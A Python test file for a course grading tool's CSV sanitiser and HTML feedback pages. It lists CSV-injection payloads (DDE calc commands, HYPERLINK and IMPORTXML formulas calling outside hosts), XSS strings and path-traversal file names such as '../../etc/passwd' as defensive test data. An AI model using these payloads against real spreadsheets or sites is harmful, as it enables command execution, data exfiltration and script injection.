"""Feedback pages (`grade --feedback DIR`) and spreadsheet-safe CSV cells (coursekit/csv_safe.py)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from coursekit.csv_safe import SafeWriter, safe_cell
from coursetools.grade.feedback import feedback_html, hints, page_names, write_feedback

ROOT = Path(__file__).resolve().parents[1]
SOL02 = ROOT / "solutions" / "02_solutions_counting_blackjack_hands.ipynb"
HANDED_IN = "02_exercises_counting_blackjack_hands.ipynb"  # the exercise's file name: what a learner hands in
ONE_DECK = "this is the chance for one deck; the question asks for a fresh six-deck shoe"


# --- CSV cells a spreadsheet will not run --------------------------------------------------------------------

# the OWASP CSV-injection examples and their relatives: every one must come out as text
FORMULAS = [
    "=1+2", "=HYPERLINK(1).ipynb", "=HYPERLINK(\"http://evil.example\",\"click\")", "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0", "+1+2", "+x.ipynb", "+cmd|' /C calc'!A0", "-2+3", "-2+3.ipynb",
    "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1).ipynb", "\t=1+2", "\r=1+2", "=", "+", "-", "@",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "-1+1|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://e.x/?\", A1), \"//a\")",
]
PLAIN = ["-0.35", "0.35", "+3", "-12", "1e5", "-1.5e-3", "12", "", "notebook", "02.q1", "a=b", "x-1", "59.1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", PLAIN + [0, -1, 2.5, -0.35, None])
def test_plain_values_and_numbers_stay(value):
    assert safe_cell(value) == value


def test_safe_writer_neutralises_every_cell_it_writes():
    handle = io.StringIO()
    SafeWriter(handle).writerows([FORMULAS, PLAIN])
    formulas, plain = csv.reader(io.StringIO(handle.getvalue()))
    assert formulas == ["'" + text for text in FORMULAS] and plain == PLAIN


def test_every_csv_the_course_writes_goes_through_csv_safe():
    """No module writes a CSV with the bare csv module (csv_safe itself is the one place that may)."""
    bare = []
    for path in (ROOT / "coursekit").rglob("*.py"):
        if path.name == "csv_safe.py":
            continue
        text = path.read_text()
        if re.search(r"\bcsv\.(writer|DictWriter)\b|\.to_csv\(", text):
            bare.append(str(path.relative_to(ROOT)))
    assert not bare, f"write CSV through coursekit.csv_safe.SafeWriter: {bare}"


# --- feedback pages from records -----------------------------------------------------------------------------

PRIVATE_MARKER = "PRIVATE_TEST_TEXT_7f3a"
HIDDEN_MARKER = "HIDDEN_EXPECTED_91c2"


def test(label, status, points, max_points, expected="", actual="", message="", public=True, reveal=True, slip=""):
    return {"label": label, "status": status, "points": points, "max_points": max_points, "expected": expected,
            "actual": actual, "message": message, "public": public, "reveal": reveal, "slip": slip}


test.__test__ = False  # a helper, not a pytest test


def record(notebook="alice/02_counting_blackjack_hands.ipynb", written="Casinos call 14 soft and 4 hard, see?"):
    """A grade record of exercise 02 as batch.grade_notebook writes it, with one private test per question."""
    q3 = [test("p_natural_6 is a Fraction", "pass", 1, 1, "a Fraction", "a Fraction"),
          test("p_natural_6", "fail", 0, 2, f"Fraction({HIDDEN_MARKER})", "Fraction(32, 663)", reveal=False,
               slip=ONE_DECK)]
    q4 = [test("p_bust_three is a Fraction", "pass", 1, 1, "a Fraction", "a Fraction"),
          test("p_bust_three", "pass", 2, 2, f"Fraction({HIDDEN_MARKER})", f"Fraction({HIDDEN_MARKER})",
               reveal=False)]
    q1 = [test("hand_total(['10', '5', 'A'])", "pass", 1, 1, "16", "16"),
          test("hand_total(['K', 'Q', '5'])", "fail", 0, 1, "None", "25",
               slip="a busted hand must give None, not its total over 21")]
    questions = {
        "02.q1": q1 + [test(f"hand_total(['A']) + len('{PRIVATE_MARKER}')", "fail", 0, 3,
                            f"'{PRIVATE_MARKER}'", "4", message=f"about {PRIVATE_MARKER}", public=False,
                            reveal=False, slip=f"slip {PRIVATE_MARKER}")],
        "02.q3": q3 + [test(PRIVATE_MARKER, "pass", 2, 2, PRIVATE_MARKER, PRIVATE_MARKER, public=False, reveal=False)],
        "02.q4": q4,
        "02.q5": [test("written answer in soft_and_hard", "manual", 0, 2, actual=repr(written),
                       message="9 words; marked by your instructor")],
    }
    qs = {}
    titles = {"02.q1": "hand_total(cards)", "02.q3": "a natural from six decks", "02.q4": "three cards bust",
              "02.q5": "soft and hard"}
    for qid, tests in questions.items():
        manual = qid == "02.q5"
        qs[qid] = {"qid": qid, "title": titles[qid], "kind": "written" if manual else "function", "manual": manual,
                   "points": 0 if manual else sum(t["points"] for t in tests),
                   "max_points": sum(t["max_points"] for t in tests), "message": "", "tests": tests}
    return {"notebook": notebook, "exercise": "02", "points": 7, "max_points": 14, "percent": 50.0,
            "questions": qs, "messages": ["cell 4 was stopped after 5 s"], "course_code": {}, "seconds": 1.0}


class Tags(HTMLParser):
    """Every start tag and attribute of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, name, value or "") for name, value in attrs]


def tags_of(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    return parser


BLOCKS = {"p", "div", "td", "th", "tr", "li", "h1", "h2", "h3", "blockquote", "section", "header", "footer", "br"}


def text_of(page: str) -> str:
    """The page's visible text: a space between blocks, whitespace runs made one space."""
    parts, skipping = [], []

    class Text(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in ("style", "title"):
                skipping.append(tag)
            if tag in BLOCKS or tag == "span" and ("class", "badge manual") in attrs:
                parts.append(" ")

        def handle_endtag(self, tag):
            if skipping and tag == skipping[-1]:
                skipping.pop()
            if tag in BLOCKS or tag == "span":
                parts.append(" ")

        def handle_data(self, data):
            if not skipping:
                parts.append(data)

    Text().feed(page)
    return " ".join("".join(parts).split())


def test_a_page_has_a_summary_table_then_the_details():
    page = feedback_html(record())
    text = text_of(page)
    assert "Exercises 02 · Counting blackjack hands" in text
    assert "Score: 7 / 14 automatic points (50%) + 2 points to be graded by hand" in text
    summary = text[text.index("question what it asks"):text.index("Notes of the grade")]
    assert "02.q1 hand_total(cards) 1 of 3 tests passed, 1 named slip 1 / 5" in summary
    assert "02.q3 a natural from six decks 2 of 3 tests passed, 1 named slip 3 / 5" in summary
    assert "02.q5 soft and hard to be graded by hand – / 2" in summary
    assert "automatic points 7 / 14 50%" in summary
    assert text.index("Notes of the grade") < text.index("02.q1 hand_total(cards) 1 / 5 points")
    assert "cell 4 was stopped after 5 s" in text


def test_a_page_names_slips_shows_hints_and_values_but_never_a_hidden_answer():
    text = text_of(feedback_html(record()))
    assert f"Looks like a common slip: {ONE_DECK}" in text
    assert "Looks like a common slip: a busted hand must give None, not its total over 21" in text
    assert "expected value hidden, got Fraction(32, 663)" in text
    assert "p_bust_three right (the expected value stays hidden)" in text
    assert "expected None, got 25" in text
    assert f"Hint: {hints('02')['02.q3'][0]}" in text
    assert "Hint: an ace then a ten-valued card, or the other way round; count the shoe's cards" in text
    assert "to be graded by hand written answer in soft_and_hard Casinos call 14 soft" in text
    assert HIDDEN_MARKER not in feedback_html(record())


def test_private_tests_show_only_their_number_result_and_points():
    page = feedback_html(record())
    assert PRIVATE_MARKER not in page
    text = text_of(page)
    assert "FAIL private test 1: fail 0/3" in text
    assert "pass private test 1: pass 2/2" in text


def test_hints_come_from_the_solution_regions_before_each_check():
    found = hints("02")
    assert found["02.q1"] == ("add the cards, aces as 1; add 10 if the hand has an ace and it still fits",)
    assert found["02.q5"] == ()
    exercise = hints("02", course=Path("/nonexistent"))
    assert exercise == {}


def test_hints_fall_back_to_the_exercise_stubs(tmp_path):
    (tmp_path / "exercises").mkdir()
    (tmp_path / "exercises" / HANDED_IN).write_bytes((ROOT / "exercises" / HANDED_IN).read_bytes())
    assert hints("02", course=tmp_path) == hints("02")


HOSTILE_NAME = "submissions/<img src=x onerror=alert(1)>/=HYPERLINK(1)<b>.ipynb"
HOSTILE_ANSWER = "<script>alert('soft')</script> and <b>bold</b> & <img src=x onerror=alert(2)> \"quoted\""


def test_everything_a_learner_wrote_is_escaped():
    rec = record(notebook=HOSTILE_NAME, written=HOSTILE_ANSWER)
    rec["questions"]["02.q1"]["tests"][1]["actual"] = "'</td><script>alert(3)</script>'"
    rec["messages"].append("cell 2 raised ValueError: <iframe src=//evil.example>")
    page = feedback_html(rec)
    parsed = tags_of(page)
    assert not {"script", "img", "iframe", "b"} & set(parsed.tags), parsed.tags
    assert not [a for a in parsed.attrs if a[1].startswith("on")]
    text = text_of(page)
    assert HOSTILE_ANSWER in text  # shown as the learner wrote it, as text
    assert "Feedback on " + HOSTILE_NAME in text
    assert "got '</td><script>alert(3)</script>'" in text
    assert "&lt;script&gt;alert(&#x27;soft&#x27;)&lt;/script&gt;" in page


def test_a_page_loads_nothing_from_anywhere():
    page = feedback_html(record())
    parsed = tags_of(page)
    assert set(parsed.tags) <= {"html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2", "h3",
                                "div", "p", "code", "span", "table", "colgroup", "col", "thead", "tbody", "tr", "th",
                                "td", "a", "section", "strong", "blockquote", "ul", "li", "footer"}, parsed.tags
    links = [value for tag, name, value in parsed.attrs if name in ("href", "src", "action", "srcset")]
    assert all(link.startswith("#") for link in links), links
    style = page[page.index("<style>"):page.index("</style>")]
    assert "url(" not in style and "@import" not in style and "@font-face" not in style
    assert "default-src 'none'" in page  # and the browser refuses anything else, should something slip in


def test_a_page_for_a_notebook_that_was_not_graded_still_explains_why():
    rec = {"notebook": "homework.ipynb", "exercise": "", "points": 0, "max_points": 0, "percent": 0.0,
           "questions": {}, "messages": ["cannot tell which exercise homework.ipynb is: no coursekit metadata"],
           "course_code": {}, "seconds": 0.0}
    text = text_of(feedback_html(rec))
    assert "Feedback on homework.ipynb" in text and "cannot tell which exercise homework.ipynb is" in text


NAMES = ["alice/02_counting_blackjack_hands.ipynb", "bob/02_counting_blackjack_hands.ipynb",
         "=HYPERLINK(1).ipynb", "../../etc/passwd", "..", ".hidden.ipynb", "a/../../b.ipynb",
         "<img src=x onerror=alert(1)>.ipynb", "ünïcödé naïve.ipynb", "x" * 300 + ".ipynb", "/", "a\\..\\b.ipynb"]


def test_page_names_are_safe_and_unique(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    names = page_names(NAMES)
    assert len(set(names.values())) == len(NAMES)
    for name in names.values():
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,80}-[0-9a-f]{10}\.html", name), name
    assert names["=HYPERLINK(1).ipynb"].endswith("__HYPERLINK_1-" + names["=HYPERLINK(1).ipynb"][-15:])
    two = page_names(["subs/alice/02_counting_blackjack_hands.ipynb", "subs/bob/02_counting_blackjack_hands.ipynb"])
    assert [name[:-len("-0123456789.html")] for name in two.values()] == [
        "alice__02_counting_blackjack_hands", "bob__02_counting_blackjack_hands"]
    assert page_names(["=HYPERLINK(1).ipynb"])["=HYPERLINK(1).ipynb"].startswith("HYPERLINK_1-")


def test_pages_are_written_inside_the_folder_only(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "deep" / "feedback"
    records = [record(notebook=name) for name in NAMES]
    written = write_feedback(records, out)
    files = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert files == sorted(written.values()) and len(files) == len(NAMES)
    assert all(p.parent == out for p in files)
    assert all(oct(p.stat().st_mode)[-3:] == "644" for p in files)


# --- end to end: real grading -------------------------------------------------------------------------------

def _bwrap_or_skip():
    from coursekit.sandbox.jail import bwrap

    if bwrap() is None and not os.environ.get("CI"):
        pytest.skip("bubblewrap is not installed (apt-get install bubblewrap)")


def one_deck_submission(folder: Path, written: str) -> Path:
    """Solution 02 with the one-deck natural in q3 and `written` as the q5 answer."""
    from coursetools.nbio import nbformat

    nb = nbformat.read(SOL02, as_version=4)
    for cell in nb.cells:
        if "def natural_chance(decks)" in cell.source:
            cell.source = "from fractions import Fraction\n\n\ndef natural_chance(decks):\n    return Fraction(32, 663)"
        if "soft_and_hard = " in cell.source:
            cell.source = f"soft_and_hard = {written!r}"
    path = folder / HANDED_IN
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


@pytest.mark.slow
def test_grade_writes_a_page_per_submission_without_private_or_hidden_text(tmp_path, capsys):
    _bwrap_or_skip()
    from coursetools.grade.batch import main as grade_main

    tests = tmp_path / "private"
    tests.mkdir()
    (tests / "more.py").write_text(
        "from coursekit.grading import Case\n"
        f"TESTS = {{'02.q1': [Case(\"hand_total(['A', '9', 'A']) + 0 * len('{PRIVATE_MARKER}')\", 21, points=3,\n"
        f"                         label='{PRIVATE_MARKER} label')],\n"
        f"         '02.q3': [Case('natural_chance(6) * 1', '{HIDDEN_MARKER}', points=1,\n"
        f"                         label='{PRIVATE_MARKER} q3')]}}\n")
    alice = tmp_path / "subs" / "alice" / HANDED_IN
    alice.parent.mkdir(parents=True)
    alice.write_bytes(SOL02.read_bytes())
    one_deck_submission(tmp_path / "subs" / "bob", "<script>alert(1)</script> soft is 14, hard is 4 <b>")
    out, feedback = tmp_path / "grades.csv", tmp_path / "feedback"
    assert grade_main([str(tmp_path / "subs"), "--out", str(out), "--tests", str(tests), "--feedback",
                       str(feedback), "--timeout", "20", "--jobs", "2"]) == 0
    printed = capsys.readouterr().out
    assert f"feedback: 2 page(s) in {feedback}" in printed
    pages = sorted(p for p in feedback.iterdir() if p.name not in ("index.html", "written.html"))
    class_page = (feedback / "index.html").read_text()  # the class page beside them: no private or hidden text
    assert HIDDEN_MARKER not in class_page and PRIVATE_MARKER not in class_page and ONE_DECK in class_page
    assert [p.name[:-len("-0123456789.html")] for p in pages] == ["alice__02_exercises_counting_blackjack_hands",
                                                                  "bob__02_exercises_counting_blackjack_hands"]
    for page in pages:
        assert f"feedback {page}" in printed
        html = page.read_text()
        assert HIDDEN_MARKER not in html
        assert PRIVATE_MARKER not in html
        assert "private test 1:" in text_of(html) and "private test 2:" not in text_of(html)
    bob_text = text_of(pages[1].read_text())
    assert "Looks like a common slip: " + ONE_DECK in bob_text
    assert "expected value hidden, got Fraction(32, 663)" in bob_text
    assert "to be graded by hand written answer in soft_and_hard <script>alert(1)</script> soft is 14, " \
           "hard is 4 <b>" in bob_text
    assert "<script>" not in pages[1].read_text()
    grades = json.loads(out.with_suffix(".json").read_text())
    records = grades["records"]
    slips = [(s["qid"], s["says"], s["count"]) for s in grades["summary"]["slips"]]
    assert ("02.q3", ONE_DECK, 1) in slips and {qid for qid, _, _ in slips} == {"02.q3"}  # as on the class page
    assert f'<td class="num">1</td><td class="num">50%</td><td>02.q3</td><td class="slip">{ONE_DECK}' in class_page
    assert [(r["points"], r["max_points"]) for r in records] == [(25, 26), (22, 26)]  # q1's private test passes
    assert records[0]["questions"]["02.q1"]["tests"][-1]["label"] == f"{PRIVATE_MARKER} label"  # the JSON keeps it


def test_a_feedback_path_that_is_a_file_is_refused_before_grading(tmp_path, capsys):
    _bwrap_or_skip()
    from coursetools.grade.batch import main as grade_main

    (tmp_path / "feedback").write_text("not a folder")
    assert grade_main([str(SOL02), "--out", str(tmp_path / "g.csv"), "--feedback", str(tmp_path / "feedback")]) == 2
    assert "is a file" in capsys.readouterr().err and not (tmp_path / "g.csv").exists()


def test_a_page_names_the_submission_without_the_instructors_absolute_folders(tmp_path, monkeypatch):
    from coursetools.grade.feedback import shown_name

    monkeypatch.chdir(tmp_path)
    inside = tmp_path / "submissions" / "alice" / "02_counting_blackjack_hands.ipynb"
    assert shown_name(str(inside)) == "submissions/alice/02_counting_blackjack_hands.ipynb"
    assert shown_name("/home/teacher/private/class-7b/bob/02_x.ipynb") == "bob/02_x.ipynb"
    assert shown_name("02_x.ipynb") == "02_x.ipynb"


def test_a_full_mark_question_shows_no_hint_and_a_named_slip_links_its_lesson_section():
    """Issue 37 item 3: q4 got every point, so its hint is not shown; q1's named slip links the section that
    teaches it (it was plain text), relative to where the lessons are seen from."""
    page = feedback_html(record(), lessons_url="../notebooks")
    text = text_of(page)
    q4 = text[text.index("02.q4 three cards bust 3 / 3 points"):]
    q4 = q4[:q4.index("02.q5")]
    assert "Hint" not in q4 and "p_bust_three right" in q4
    assert f"Hint: {hints('02')['02.q3'][0]}" in text  # q3 lost a point: its hint stays
    links = [value for tag, name, value in tags_of(page).attrs if tag == "a" and name == "href"]
    assert "../notebooks/02_counting_blackjack_hands.ipynb#How-many-totals-do-aces-give?" in links, links
    assert not any(link.startswith("../notebooks/") for link in
                   (v for t, n, v in tags_of(feedback_html(record())).attrs if t == "a" and n == "href"))


def test_the_pages_link_the_lessons_relative_to_their_folder_or_by_the_url_given(tmp_path):
    from coursetools.grade.feedback import COURSE_ROOT, lessons_link

    folder = COURSE_ROOT / "feedback-test-folder"
    assert lessons_link(folder) == "../notebooks"
    assert lessons_link(tmp_path, "/hub/user-redirect/lab/tree/games-course/notebooks") == (
        "/hub/user-redirect/lab/tree/games-course/notebooks")
    assert lessons_link(tmp_path, "https://example.org/course") == "https://example.org/course"
    (tmp_path / "lessons").mkdir()
    assert lessons_link(tmp_path / "pages", str(tmp_path / "lessons")) == "../lessons"
